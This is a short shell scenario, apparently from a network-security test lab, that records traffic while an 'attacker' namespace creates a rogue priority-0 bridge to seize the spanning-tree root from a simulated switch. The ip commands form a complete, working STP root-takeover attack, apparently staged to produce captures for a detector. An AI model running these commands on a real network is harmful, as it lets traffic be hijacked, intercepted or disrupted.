# about: a bridge of the kernel with priority 0 takes over the root of the spanning tree
# tools: ip
# expect: spanning-tree
scenario_lab() { lab_up_switch; }
scenario() {
  ip -n switch link set br0 type bridge stp_state 1 forward_delay 200 hello_time 100
  sleep 6
  start_recording attacks/stp-root c0
  sleep 14
  ip -n attacker addr flush dev a0
  ip -n attacker link add rogue type bridge stp_state 1 priority 0 forward_delay 200 hello_time 100
  ip -n attacker link set a0 master rogue; ip -n attacker link set rogue up
  sleep 12
  stop_recording
}
